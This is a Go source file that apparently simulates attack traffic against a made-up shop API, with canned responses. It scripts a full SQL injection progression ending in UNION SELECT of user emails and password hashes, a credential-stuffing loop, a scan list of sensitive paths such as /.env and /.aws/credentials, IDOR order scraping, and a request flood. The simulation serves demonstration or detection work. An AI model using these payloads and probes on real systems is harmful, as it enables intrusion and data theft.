package demo

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"time"
)

// injection is somebody who finds that a filter goes into SQL as it is.
func (s *shop) injection() {
	v := s.visitor(Injector, firefoxLinux, "Accept: */*")
	category := func(text string, a answer) {
		v.call("GET", "/api/v1/items?category="+url.PathEscape(text), "", a)
		s.pause(2*time.Second, 7*time.Second)
	}
	category("mugs", itemList(0, 2))
	category("mugs'", sqlError("You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near ''mugs'' LIMIT 50' at line 1"))
	category("mugs' AND '1'='1", itemList(0, 2))
	category("mugs' AND '1'='2", itemList(0, 0))
	category("mugs' ORDER BY 5-- -", itemList(0, 2))
	category("mugs' ORDER BY 6-- -", sqlError("Unknown column '6' in 'order clause'"))
	category("x' UNION SELECT 1,2,3,4,5-- -", answer{body: `{"items":[{"id":1,"name":"2","price":"3","stock":"4","image":"5"}],"count":1}`})
	category("x' UNION SELECT table_name,2,3,4,5 FROM information_schema.tables-- -", answer{body: tables()})
	category("x' UNION SELECT id,email,password_hash,role,created FROM users-- -", answer{body: users()})
	v.leave()
}

func sqlError(text string) answer {
	return answer{status: http.StatusInternalServerError, body: fmt.Sprintf(`{"error":"SQLSTATE[42000]: %s"}`, text)}
}

// rows prints rows as the item list the injected query comes out in.
func rows(n int, row func(i int) string) string {
	list := make([]string, n)
	for i := range list {
		list[i] = row(i)
	}
	return fmt.Sprintf(`{"items":[%s],"count":%d}`, strings.Join(list, ","), n)
}

func tables() string {
	names := []string{"carts", "items", "orders", "payments", "reviews", "sessions", "users"}
	return rows(len(names), func(i int) string {
		return fmt.Sprintf(`{"id":%q,"name":"2","price":"3","stock":"4","image":"5"}`, names[i])
	})
}

// users is the table the attack is after.
func users() string {
	return rows(160, func(i int) string {
		role := "customer"
		if i == 0 {
			role = "admin"
		}
		return fmt.Sprintf(`{"id":%d,"name":"%s","price":"$2b$12$%022d%031x","stock":%q,"image":"2024-%02d-11"}`,
			i+1, account(i), i*7919, i*104729+1, role, 1+i%12)
	})
}

// account returns the nth of many made-up accounts.
func account(i int) string {
	first := [...]string{"alex", "bea", "carl", "dora", "emil", "fay", "gus", "hana", "ivan", "jill", "kai"}
	last := [...]string{"keller", "ortiz", "moore", "novak", "dupont", "rossi", "larsen", "kim", "haas", "lopez", "brown", "sato", "young"}
	return fmt.Sprintf("%s.%s%d@example.net", first[i%len(first)], last[i%len(last)], 60+i%39)
}

// stuffing tries a leaked list: 66 accounts, once each, two of them right.
func (s *shop) stuffing() {
	for i := range 66 {
		v := s.visitor(Stuffer, "python-requests/2.32.3", "Accept: */*", "Accept-Encoding: gzip, deflate", "Connection: close")
		user := account(i)
		a := loginRefused()
		if i == 22 || i == 51 {
			a = answer{body: fmt.Sprintf(`{"user":%q,"token":%q}`, user, s.token(user))}
		}
		v.call("POST", "/api/v1/login", fmt.Sprintf(`{"user":%q,"password":"pw%06x!"}`, user, s.rng.IntN(1<<24)), a)
		v.leave()
		s.pause(500*time.Millisecond, 1100*time.Millisecond)
	}
}

// scan asks for what careless servers have lying about.
func (s *shop) scan() {
	v := s.visitor(Scanner, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "Accept: */*")
	for _, path := range scanned {
		v.call("GET", path, "", answer{status: http.StatusNotFound, kind: "text/plain", body: "404 page not found\n"})
		s.pause(120*time.Millisecond, 420*time.Millisecond)
	}
	v.leave()
}

var scanned = [...]string{"/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.htaccess", "/.htpasswd", "/.DS_Store", "/.aws/credentials",
	"/admin", "/admin/", "/admin.php", "/administrator/", "/wp-login.php", "/wp-admin/", "/wp-config.php.bak", "/xmlrpc.php", "/phpmyadmin/",
	"/phpinfo.php", "/info.php", "/test.php", "/config.php", "/config.json", "/config.yml", "/backup.zip", "/backup.sql", "/dump.sql", "/db.sqlite",
	"/server-status", "/server-info", "/actuator", "/actuator/env", "/actuator/heapdump", "/manager/html", "/jmx-console/", "/console/",
	"/solr/admin/", "/jenkins/", "/hudson/", "/nagios/", "/cgi-bin/test.cgi", "/cgi-bin/printenv", "/robots.txt.bak", "/old/", "/backup/", "/tmp/",
	"/logs/", "/error_log", "/debug", "/trace.axd", "/elmah.axd", "/web.config", "/crossdomain.xml", "/api/swagger.json", "/swagger-ui.html",
	"/v2/api-docs", "/graphiql", "/api/v1/users", "/api/v1/admin", "/api/v2/items", "/api/internal/status", "/login.jsp", "/index.jsp", "/portal/",
	"/owa/", "/remote/login", "/vpn/index.html", "/setup.cgi", "/boaform/admin", "/HNAP1/", "/.well-known/security.txt"}

// scrape walks other people's orders with one ordinary account.
func (s *shop) scrape() {
	v := s.visitor(Scraper, "okhttp/4.12.0", "Accept: application/json")
	user := "dealhunter@example.org"
	token := s.token(user)
	v.call("POST", "/api/v1/login", fmt.Sprintf(`{"user":%q,"password":"Tr0ub4dor-and-3"}`, user), answer{body: fmt.Sprintf(`{"user":%q,"token":%q}`, user, token)})
	v.fields = append(v.fields, "Authorization: Bearer "+token)
	for id := 1001; id <= 1090; id++ {
		s.pause(880*time.Millisecond, 920*time.Millisecond)
		v.call("GET", fmt.Sprintf("/api/v1/orders/%d", id), "", orderPage(id, account(id)))
	}
	v.leave()
}

// burst is one client that asks for the same again and again, on four
// connections, until the shop gives up.
func (s *shop) burst() {
	var vs [4]*visitor
	for i := range vs {
		vs[i] = s.visitor(Flooder, "Go-http-client/1.1", "Accept: */*")
	}
	begin := s.b.Now()
	for i := range 400 {
		v := vs[i%len(vs)]
		s.b.At(max(begin+int64(i/len(vs))*40e6+int64(i%len(vs))*1e6, v.last))
		a := answer{body: `{"items":[],"count":0}`}
		if i > 260 {
			a = answer{status: http.StatusServiceUnavailable, body: `{"error":"overloaded"}`, headers: []string{"Retry-After: 5"}}
		}
		v.call("GET", fmt.Sprintf("/api/v1/search?q=%c%c", 'a'+i%26, 'a'+i/26), "", a)
	}
	for _, v := range vs {
		s.b.At(v.last)
		v.leave()
	}
}
